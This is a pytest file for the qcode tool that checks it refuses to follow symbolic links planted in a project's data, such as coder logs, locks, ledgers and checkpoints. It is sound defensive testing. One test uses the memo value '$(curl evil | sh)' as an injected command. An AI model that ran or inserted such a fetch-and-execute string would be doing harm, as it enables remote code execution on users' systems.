"""qcode never reads or writes through a symbolic link in a project's data (issue 12, item
4): a project shared through git can carry links that lead out of it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from qcode.coding import store as codings
from qcode.coding.checkpoint import save
from qcode.errors import ExitCode, ProjectDamagedError
from qcode.project import Project, open_project
from qcode.reconcile import ledger
from tests.builders import interview


def _linked(path: Path) -> str:
    return (f"Error: {path} is a symbolic link; qcode does not read or write the project's "
            "data through links, so nothing was read or written there\n"
            "Hint: replace the link by the real file (or delete it if it does not belong to "
            "the project), then repeat the command\n")


@pytest.fixture
def q(invoke: Callable[..., Any], project: Project) -> Callable[..., Any]:
    project.save_document(interview("T01"))

    def run(*args: str) -> Any:
        return invoke("--project", str(project.root), *args)
    return run


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the project, like a shell start-up file."""
    path = tmp_path / "bashrc"
    path.write_bytes(b"export PATH=/usr/bin\n")
    return path


def test_a_coder_log_linked_outside_is_neither_appended_to_nor_read(
        q: Callable[..., Any], project: Project, outside: Path) -> None:
    log = project.codings_dir / "mallory.jsonl"
    log.symlink_to(outside)
    r = q("tag", "T01", "T01:0002", "--code", "GOV-MAC-01", "--coder", "mallory",
          "--memo", "$(curl evil | sh)")
    assert r.exit_code == ExitCode.NO_PROJECT
    assert r.stderr == _linked(log)
    assert outside.read_bytes() == b"export PATH=/usr/bin\n"
    for args in (("report", "--coder", "mallory"), ("codings", "export", "--coder", "mallory")):
        r = q(*args)
        assert r.exit_code == ExitCode.NO_PROJECT
        assert r.stderr == _linked(log)


def test_a_dangling_coder_log_link_is_named_as_a_link_not_a_missing_coder(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    """It said "no coder 'evil' in this project / did you mean evil?" (the link's target
    does not exist, and the existence check followed the link)."""
    log = project.codings_dir / "evil.jsonl"
    log.symlink_to(tmp_path / "nowhere.txt")
    for args in (("coders",), ("codings", "export", "--coder", "evil")):
        r = q(*args)
        assert r.exit_code == ExitCode.NO_PROJECT
        assert r.stderr == _linked(log)
    assert not (tmp_path / "nowhere.txt").exists()


def test_a_dangling_lock_link_creates_nothing(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    target = tmp_path / "planted" / "new-file"
    target.parent.mkdir()
    lock = project.codings_dir / ".ana.lock"
    lock.symlink_to(target)
    r = q("tag", "T01", "T01:0002", "--code", "GOV-MAC-01", "--coder", "ana")
    assert r.exit_code == ExitCode.NO_PROJECT
    assert r.stderr == _linked(lock)
    assert not target.exists() and lock.is_symlink()
    assert not (project.codings_dir / "ana.jsonl").exists()


def test_a_dangling_lock_link_of_a_reader_creates_nothing(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    assert q("tag", "T01", "T01:0002", "--code", "GOV-MAC-01", "--coder", "ana").exit_code == 0
    lock = project.codings_dir / ".ana.lock"
    lock.unlink()
    target = tmp_path / "planted"
    lock.symlink_to(target)
    r = q("codings", "export", "--coder", "ana")
    assert r.exit_code == ExitCode.NO_PROJECT
    assert r.stderr == _linked(lock)
    assert not target.exists()


def test_a_reconciliation_log_linked_outside_is_not_appended_to(
        project: Project, outside: Path) -> None:
    path = ledger.log_file(project, "final")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(outside)
    with pytest.raises(ProjectDamagedError, match="is a symbolic link"):
        ledger.append(project, "final", [{"kind": "run", "coders": ["a", "b"],
                                          "strategy": "ask"}])
    with pytest.raises(ProjectDamagedError, match="is a symbolic link"):
        ledger.read_ledger(project, "final")
    assert outside.read_bytes() == b"export PATH=/usr/bin\n"


def test_a_document_linked_outside_is_not_read(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text(project.document_path("T01").read_text(encoding="utf-8"),
                      encoding="utf-8")
    link = project.document_path("T02")
    link.symlink_to(secret)
    r = q("show", "T02")
    assert r.exit_code == ExitCode.NO_PROJECT
    assert r.stderr == _linked(link)


def test_a_data_folder_that_is_a_link_is_refused(project: Project, tmp_path: Path) -> None:
    elsewhere = tmp_path / "home"
    elsewhere.mkdir()
    project.codings_dir.rmdir()
    project.codings_dir.symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(ProjectDamagedError) as err:
        open_project(project.root)
    assert str(err.value) == (f"{project.codings_dir} is a symbolic link; qcode does not read "
                              "or write the project's data through links, so nothing was "
                              "read or written there")
    assert list(elsewhere.iterdir()) == []


def test_a_linked_registry_file_is_refused(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "figures.csv"
    outside.write_text("year,region\n", encoding="utf-8")
    (project.root / "registry").mkdir()
    link = project.root / "registry" / "registry.csv"
    link.symlink_to(outside)
    r = q("registry", "summary")
    assert r.exit_code == ExitCode.NO_PROJECT
    assert r.stderr == _linked(link)


def test_a_planted_checkpoint_link_cannot_inject_codings(
        q: Callable[..., Any], project: Project, tmp_path: Path) -> None:
    """A checkpoint is a cache: a link there is not read (a forged one, valid for the log,
    would otherwise add codings nobody made), and the next save replaces the link itself."""
    assert q("tag", "T01", "T01:0002", "--code", "GOV-MAC-01", "--coder", "ana").exit_code == 0
    log = project.codings_dir / "ana.jsonl"
    forged = codings.load_state(project, "ana")
    ev = dict(forged.codes[("T01", "T01:0002")]["GOV-MAC-01"], code="ECO-MAC-01")
    forged.spans[("T01", "T01:0002")][("ECO-MAC-01", ev["start"], ev["end"])] = ev
    planted = tmp_path / "planted.checkpoint"
    save(planted, forged, log.read_bytes())
    assert planted.exists()
    link = project.codings_dir / ".ana.checkpoint"
    link.symlink_to(planted)
    st = codings.load_state(project, "ana")
    assert st.codes_on("T01", "T01:0002") == ["GOV-MAC-01"]
    save(link, st, log.read_bytes())
    assert not link.is_symlink()
    assert b"ECO-MAC-01" in planted.read_bytes()  # the file the link named is untouched
